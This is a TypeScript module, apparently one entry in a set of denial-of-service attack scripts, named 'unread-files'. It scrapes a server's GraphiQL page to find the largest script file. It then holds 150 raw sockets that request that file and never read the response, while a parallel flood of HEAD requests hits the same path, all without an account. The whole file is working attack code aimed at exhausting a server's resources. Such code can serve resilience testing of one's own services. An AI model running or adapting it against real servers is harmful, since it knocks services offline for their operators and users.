import { type Agent, Agent as HttpAgent, request } from "node:http";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "./attack.ts";
import { flood } from "./flood.ts";
import { openSockets } from "./open-sockets.ts";

/** @returns the path of GraphiQL's script, the largest file that there is, as soon as the server keeps it compressed */
async function findScript(url: string): Promise<string> {
  const page = await fetch(`${url}/graphql`, { headers: { accept: "text/html" } });
  const [, path] = /src="(\/graphiql\/graphiql\.[^"]+)"/.exec(await page.text()) ?? [];
  if (path === undefined) throw new Error("GraphiQL has no script");
  for (;;) {
    const { headers } = await fetch(url + path, { method: "HEAD", headers: { "accept-encoding": "gzip" } });
    if (headers.has("content-encoding")) return path;
    await sleep(100);
  }
}

function head(url: string, path: string, agent: Agent, signal: AbortSignal): Promise<void> {
  return new Promise((done, failed) => {
    const options = { method: "HEAD", agent, signal };
    request(url + path, options, (response) => response.resume().once("close", done))
      .once("error", failed)
      .end();
  });
}

const sockets = 150;

export const attack: Attack = {
  name: "unread-files",
  what: "150 sockets ask for GraphiQL's script as it is and read nothing, others for its head, without an account",
  async prepare({ url }) {
    const path = await findScript(url);
    const agent = new HttpAgent({ keepAlive: true });
    return async (signal) => {
      await Promise.all([
        openSockets({ url }, sockets, signal, (socket) =>
          socket.write(`GET ${path} HTTP/1.1\r\nHost: ${new URL(url).host}\r\n\r\n`),
        ),
        flood(signal, 10, () => head(url, path, agent, signal)),
      ]);
    };
  },
};
